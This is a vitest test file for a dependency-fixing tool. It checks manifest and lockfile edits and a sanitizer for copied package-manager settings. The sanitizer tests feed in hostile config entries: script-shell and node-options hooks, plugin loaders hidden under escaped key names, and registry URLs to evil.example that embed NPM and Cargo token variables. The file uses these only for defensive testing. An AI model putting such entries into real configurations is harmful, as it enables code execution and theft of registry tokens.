// The edits of manifests and lockfiles: what they change, and what they leave alone.
import { describe, expect, it } from "vitest"
import { removeCargoDependency, setCargoVersion } from "../../src/vet/fix/cargo.ts"
import { managerEnvironment } from "../../src/vet/fix/environment.ts"
import { dropLockedOverrides } from "../../src/vet/fix/overrides.ts"
import { setField, specsFor, specTo } from "../../src/vet/fix/packageJson.ts"
import { addUvOverride } from "../../src/vet/fix/python.ts"
import {
  editPoetryTable,
  editRequirementLines,
  editTomlRequirements,
  removeRequirementLines,
} from "../../src/vet/fix/requirementText.ts"
import { cleanSettings, isLeftOut } from "../../src/vet/fix/settings.ts"
import { renameLocked } from "../../src/vet/fix/yarnLock.ts"
import { lockfileOf } from "../packages/correctionFixtures.ts"

describe("package.json", () => {
  it.each([
    ["^1.2.0", "^2.0.0"],
    ["~1.2.0", "~2.0.0"],
    ["1.2.0", "2.0.0"],
    ["=1.2.0", "2.0.0"],
    [">=1 <2", "^2.0.0"],
    ["*", "^2.0.0"],
    ["latest", "^2.0.0"],
    ["npm:^1.2.0", "npm:^2.0.0"],
    ["npm:@scope/real@~1.2.0", "npm:@scope/real@~2.0.0"],
  ])("%s becomes %s", (spec, expected) => {
    expect(specTo(spec, "2.0.0", false)).toBe(expected)
  })

  it("finds a package by its real name, and only where it comes from a registry", () => {
    const manifest = JSON.stringify({
      dependencies: { real: "^1", alias: "npm:real@^1", git: "github:a/real", local: "file:../real" },
      devDependencies: { real: "npm:other@^1" },
      peerDependencies: { real: "^1" },
    })
    expect(specsFor(manifest, "real")).toEqual([
      { field: "dependencies", key: "real", text: "^1" },
      { field: "dependencies", key: "alias", text: "npm:real@^1" },
    ])
  })

  it("adds a field in the file's own style and touches no other line", () => {
    const text = '{\r\n\t"name": "x",\r\n\t"a": { "b": "1" }\r\n}\r\n'
    expect(setField(text, ["overrides", "leaf"], "1.0.0")).toBe(
      '{\r\n\t"name": "x",\r\n\t"a": { "b": "1" },\r\n\t"overrides": {\r\n\t\t"leaf": "1.0.0"\r\n\t}\r\n}\r\n',
    )
  })

  it("takes an object with its last field", () => {
    expect(
      setField('{\n  "a": 1,\n  "dependencies": {\n    "x": "1"\n  }\n}\n', ["dependencies", "x"], undefined),
    ).toBe('{\n  "a": 1\n}\n')
  })

  it("is not led astray by names of every object", () => {
    const text = setField('{\n  "name": "x"\n}\n', ["overrides", "__proto__"], "1.0.0")
    expect(({} as Record<string, unknown>)["1.0.0"]).toBeUndefined()
    expect(specsFor('{"dependencies":{"constructor":"^1"}}', "constructor")).toHaveLength(1)
    expect(text).toContain('"name": "x"')
  })
})

describe("requirements.txt", () => {
  const HASHED = `# pinned
Foo_Bar[extra]==1.0 ; python_version > "3" \\
    --hash=sha256:aa \\
    --hash=sha256:bb
    # via app
foo-bar-baz==1.0
other==1.0
`
  it("pins another version with its hashes, in the line's own spelling", () => {
    expect(editRequirementLines(HASHED, "foo-bar", "1.0", "1.1", ["sha256:dd", "sha256:cc"])).toBe(`# pinned
Foo_Bar[extra]==1.1 ; python_version > "3" \\
    --hash=sha256:cc \\
    --hash=sha256:dd
    # via app
foo-bar-baz==1.0
other==1.0
`)
  })
  it("does not drop hashes that it cannot replace", () => {
    expect(editRequirementLines(HASHED, "foo-bar", "1.0", "1.1", [])).toBeUndefined()
  })
  it("keeps what stands behind a version", () => {
    expect(editRequirementLines("a==1.0  # why\r\nb==1\r\n", "a", "1.0", "2.0", ["sha256:cc"])).toBe(
      "a==2.0  # why\r\nb==1\r\n",
    )
  })
  it("changes nothing that is pinned to another version", () => {
    expect(editRequirementLines("a==1.0.1\na>=1.0\n", "a", "1.0", "2.0", [])).toBeUndefined()
  })
  it("takes a requirement out whole", () => {
    expect(removeRequirementLines(HASHED, "foo-bar")).toBe("# pinned\n    # via app\nfoo-bar-baz==1.0\nother==1.0\n")
  })
})

describe("pyproject.toml", () => {
  it("changes requirements, and no other text that looks like one", () => {
    const text = `[project]
name = "leaf"
keywords = ["leaf"]
dependencies = [
  "leaf>=1.0,<2 ; python_version > '3'",  # why
  "Leaf[x]==1.0",
  "leaf-let>=1",
  "leaf @ https://files.registry.example/leaf.whl",
]
[dependency-groups]
dev = ["leaf"]
[tool.other]
leaf = "leaf>=1"
`
    expect(editTomlRequirements(text, "leaf", "2.1")).toBe(
      text
        .replace("leaf>=1.0,<2 ; python", "leaf>=2.1 ; python")
        .replace("Leaf[x]==1.0", "Leaf[x]==2.1")
        .replace('dev = ["leaf"]', 'dev = ["leaf>=2.1"]'),
    )
  })
  it("changes Poetry's tables in their own style", () => {
    const text = `[tool.poetry.dependencies]
leaf = "^1.0"
Other_Leaf = { version = "~1.0", extras = ["x"] }
[tool.poetry.group.dev.dependencies]
leaf = "1.0"
[tool.other]
leaf = "^1.0"
`
    expect(editPoetryTable(text, "leaf", "2.0")).toBe(
      text.replace('leaf = "^1.0"\nO', 'leaf = "^2.0"\nO').replace('leaf = "1.0"', 'leaf = "2.0"'),
    )
    expect(editPoetryTable(text, "other-leaf", "2.0")).toContain('{ version = "~2.0", extras = ["x"] }')
  })
  it("adds an override for uv where such rules are, or makes the place", () => {
    expect(addUvOverride("[project]\n", "a==1")).toBe('[project]\n\n[tool.uv]\noverride-dependencies = ["a==1"]\n')
    expect(addUvOverride("[tool.uv]\npackage = false\n", "a==1")).toBe(
      '[tool.uv]\noverride-dependencies = ["a==1"]\npackage = false\n',
    )
    expect(addUvOverride('[tool.uv]\noverride-dependencies = ["b==1"]\n', "a==1")).toBe(
      '[tool.uv]\noverride-dependencies = ["a==1", "b==1"]\n',
    )
  })
})

describe("Cargo.toml", () => {
  const text = `[dependencies]
leaf = "1.0" # why
leaf-let = "1.0"
[dev-dependencies]
leaf = { version = "=1.0", features = ["x"] }
[target.'cfg(unix)'.dependencies.leaf]
version = "~1.0"
[package.metadata]
leaf = "1.0"
`
  it("states the version wherever the dependency is", () => {
    expect(setCargoVersion(text, "leaf", "2.0.0")).toBe(
      text
        .replace('leaf = "1.0" #', 'leaf = "2.0.0" #')
        .replace('"=1.0"', '"=2.0.0"')
        .replace('version = "~1.0"', 'version = "~2.0.0"'),
    )
  })
  it("loses the dependency and nothing else", () => {
    expect(removeCargoDependency('[dependencies]\nleaf = "1"\nb = "1"\n', "leaf")).toBe('[dependencies]\nb = "1"\n')
  })
})

it("pnpm-lock.yaml loses the note of the rules that were for a while only", () => {
  const text = "lockfileVersion: '9.0'\n\noverrides:\n  'leaf@^1': 1.0.0\n  other: 1.0.0\n\nimporters: {}\n"
  const rest = "lockfileVersion: '9.0'\n\noverrides:\n  other: 1.0.0\n\nimporters: {}\n"
  expect(dropLockedOverrides(text, ["leaf@^1"])).toBe(rest)
  expect(dropLockedOverrides(rest, ["other"])).toBe("lockfileVersion: '9.0'\n\nimporters: {}\n")
})

describe("yarn.lock", () => {
  const before = lockfileOf({
    format: "yarn.lock",
    locked: { leaf: "1.0.0", top: "1.0.0" },
    edges: [
      ["", "top", "*"],
      ["top", "leaf", "^1.0.0"],
    ],
  })
  it("of yarn 1 has the version under the range again", () => {
    expect(
      renameLocked('leaf@1.2.0:\n  version "1.2.0"\n', "yarn1", before, "leaf", new Set(["1.0.0"]), "1.2.0", []),
    ).toBe('leaf@^1.0.0:\n  version "1.2.0"\n')
  })
  it("of yarn berry too", () => {
    const text = '"leaf@npm:1.2.0":\n  version: 1.2.0\n'
    expect(renameLocked(text, "yarn", before, "leaf", new Set(["1.0.0"]), "1.2.0", ["~1.2.0"])).toBe(
      '"leaf@npm:^1.0.0, leaf@npm:~1.2.0":\n  version: 1.2.0\n',
    )
  })
})

describe("settings that a copy gets", () => {
  const clean = (path: string, text: string) => cleanSettings(path, () => text)

  it(".npmrc: where packages come from, and no program", () => {
    const kept =
      "registry=https://registry.example/\n@acme:registry=https://npm.registry.example/\n//registry.example/:_authToken=x\n"
    const dropped =
      "script-shell=./x\ngit=./x\nnode-options=--require ./x.js\nignore-scripts=false\nglobalconfig=./x\npnpmfile=./x.cjs\nprefix=./x\n"
    expect(clean(".npmrc", dropped + kept)).toBe(kept)
  })
  it("registries of Cargo by any name, and nothing of our own is written to", () => {
    const names = ["constructor", "toString", "mine"]
    const text = names.map((name) => `[registries.${name}]\nindex = "https://${name}.example"\n`).join("\n")
    expect(clean(".cargo/config.toml", `${text}[registries.mine.token]\nx = 1\n`)).toBe(text)
    expect([Object.hasOwn(Object, "index"), Object.hasOwn(Object.prototype.toString, "index")]).toEqual([false, false])
  })
  it(".yarnrc.yml: without what it would load, however the key is spelt", () => {
    const kept = "nodeLinker: node-modules\nnpmRegistryServer: https://registry.example\n"
    const hidden = [
      "yarnPath: x.cjs\n",
      "plugins:\n  - path: x.cjs\n    spec: x\n",
      '"plug\\x69ns":\n  - x.cjs\n',
      "? plugins\n: - x.cjs\n",
      "npmScopes: {}\rplugins: [x.cjs]\n",
    ]
    for (const text of hidden) expect(clean("a/.yarnrc.yml", text + kept)).not.toContain("x.cjs")
    expect(clean("a/.yarnrc.yml", hidden[0]! + hidden[1]! + kept)).toBe(kept)
    expect(clean(".yarnrc.yml", '{ "yarnPath": "x.cjs" }')).toBe("")
    expect(clean(".yarnrc.yml", "a: [")).toBe("")
  })
  it(".yarnrc, bunfig.toml and Cargo's configuration likewise", () => {
    expect(clean(".yarnrc", 'yarn-path "./x.js"\nregistry "https://registry.example"\n')).toBe(
      'registry "https://registry.example"\n',
    )
    const bun = 'preload = ["./x.ts"]\n[install]\nregistry = "r"\n"secur\\u0069ty" = { scanner = "x" }\n'
    expect(clean("bunfig.toml", bun)?.trim()).toBe('[install]\nregistry = "r"')
    const cargo = `[build]\nrustc = "./x"\n[registries.a]\nindex = "i"\n"credential-provider" = "./x"\n[alias]\nb = "x"\n`
    expect(clean(".cargo/config.toml", cargo)?.trim()).toBe('[registries.a]\nindex = "i"')
    expect(clean("sub/.cargo/config", cargo)?.trim()).toBe('[registries.a]\nindex = "i"')
  })
  it(".npmrc with lone carriage returns hides nothing", () => {
    expect(clean(".npmrc", "save-exact=true\rscript-shell=./x\r")).toBe("save-exact=true\n")
  })
  it("no address with a variable, which would take a token of this machine to another host", () => {
    const npm = [
      "registry=https://evil.example/\u0024{CARGO_REGISTRIES_A_TOKEN}/",
      '@acme:registry="https://evil.example/\\u0024{YARN_NPM_AUTH_TOKEN}/"',
      "//registry.example/:_authToken=\u0024{NPM_TOKEN}",
    ]
    expect(clean(".npmrc", `${npm.join("\n")}\nsave-exact=true\n`)).toBe("save-exact=true\n")
    expect(clean(".yarnrc", 'registry "https://evil.example/\u0024{X}"\n')).toBe("")
    const scope = 'npmRegistryServer: https://registry.example\n    npmAuthToken: "\\x24{TOKEN}"'
    const yarn = `npmRegistryServer: "https://evil.example/\${X-}"\nnpmScopes:\n  acme:\n    ${scope}\n`
    expect(clean(".yarnrc.yml", yarn)).toBe("npmScopes:\n  acme:\n    npmRegistryServer: https://registry.example\n")
  })
  it("leaves other files as they are", () => {
    expect(clean("src/config.toml", "[build]")).toBeUndefined()
    expect(clean("package.json", "{}")).toBeUndefined()
  })
  it.each([
    ".pnpmfile.cjs",
    "packages/a/.pnpmfile.mjs",
    "yarn.config.cjs",
    "rust-toolchain.toml",
    ".yarn/releases/yarn.cjs",
    ".yarn/plugins/x.cjs",
    "node_modules/.bin/npm",
    ".env.yarn",
    ".corepack.env",
  ])("leaves %s out", (path) => {
    expect(isLeftOut(path)).toBe(true)
  })
  it("Corepack asks no file of the project where managers come from", () => {
    expect(managerEnvironment({}, "/project")).toMatchObject({ COREPACK_ENV_FILE: "0" })
  })
  it("keeps patches, which the lockfile names", () => {
    expect(isLeftOut(".yarn/patches/x.patch")).toBe(false)
  })
})
